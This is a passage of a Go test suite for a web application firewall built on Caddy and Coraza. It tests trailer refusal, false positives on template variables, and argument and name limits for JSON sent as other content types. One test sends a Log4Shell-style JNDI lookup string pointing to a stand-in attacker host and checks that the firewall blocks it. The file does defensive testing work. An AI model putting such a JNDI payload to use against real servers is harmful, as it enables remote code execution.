		t.Fatalf("chunked without trailers: %d, want 200", code)
	}
	before := *hits
	if code := do(http.Header{"User-Agent": {"${jndi:ldap://evil.example/a}"}}); code != http.StatusBadRequest {
		t.Errorf("a trailer User-Agent: ${jndi:...}: %d, want 400", code)
	}
	if code := do(http.Header{"X-Note": {"harmless"}}); code != http.StatusBadRequest {
		t.Errorf("a harmless trailer: %d, want 400", code)
	}
	if *hits != before {
		t.Errorf("the backend got %d requests with trailers", *hits-before)
	}
}

// TestDetectionRulesLeaveTemplateVariablesAlone: the rules' own patterns
// (compiled with Go's regexp, RE2's syntax as Coraza's) match none of
// these. GitHub Actions' ${{ secrets.TOKEN }} cannot be in the benign
// table: the CRS alone refuses it at paranoia 1 (a shell expression).
func TestDetectionRulesLeaveTemplateVariablesAlone(t *testing.T) {
	benign := []string{"${{ secrets.TOKEN }}", "${{ github.ref }}", "{{name}}", "{{#each items}}", "{{/each}}", "{{> partial}}",
		"{{ price | currency }}", "{{order.id}}", "{2024 10}", "(7 x 7 cm)", "@home", "{{ blueprint }}"}
	for _, line := range strings.Split(strings.TrimSpace(detectionRules), "\n") {
		i := strings.Index(line, `"@rx `)
		j := strings.Index(line[i+5:], `" "id:`)
		if i < 0 || j < 0 {
			t.Fatalf("no @rx in %s", line)
		}
		re := regexp.MustCompile(strings.ReplaceAll(line[i+5:i+5+j], `\"`, `"`))
		for _, s := range benign {
			if re.MatchString(s) {
				t.Errorf("%s matches %q", line[i+5+j+2:i+5+j+12], s)
			}
		}
	}
}

// TestJSONAsTextCountsAgainstTheLimits: the leaves of JSON sent as
// text/plain are arguments, so more of them than max_arguments get 400,
// never a request partly inspected; a small one passes.
func TestJSONAsTextCountsAgainstTheLimits(t *testing.T) {
	base, hits := startCaddy(t, "waf")
	body := func(n int) string {
		var b strings.Builder
		b.WriteString("[")
		for i := range n {
			fmt.Fprintf(&b, `"v%d", `, i)
		}
		b.WriteString(`"last"]`)
		return b.String()
	}
	if code, resp := send(t, base, probe{name: "10 leaves", method: "POST", path: "/api", contentType: "text/plain", body: body(10)}); code != http.StatusOK {
		t.Fatalf("10 leaves: %d %s", code, resp)
	}
	before := *hits
	if code, _ := send(t, base, probe{name: "500 leaves", method: "POST", path: "/api", contentType: "text/plain", body: body(500)}); code != http.StatusBadRequest {
		t.Errorf("500 leaves as text/plain: %d, want 400", code)
	}
	if *hits != before {
		t.Error("the backend got the refused request")
	}
}

// TestJSONAsOtherTypesNamesBounded: JSON sent under another content type
// is walked as a JSON body is, so its names are bounded the same way:
// deep nesting over many leaves is refused (errNamesTooLong) as text/plain,
// a form or XML, never walked into thousands of long names.
func TestJSONAsOtherTypesNamesBounded(t *testing.T) {
	for _, ct := range []string{"text/plain", "application/x-www-form-urlencoded", "application/xml"} {
		if _, _, err := bodyChecks(ct, []byte(deepNames(900, 10)), 128); !errors.Is(err, errNamesTooLong) {
			t.Errorf("%s: 900 nested objects over 10 leaves: %v, want errNamesTooLong", ct, err)
		}
		if _, _, err := bodyChecks(ct, []byte(deepNames(100, 10)), 128); err != nil {
			t.Errorf("%s: 100 nested objects over 10 leaves: %v, want it inspected", ct, err)
		}
	}
}
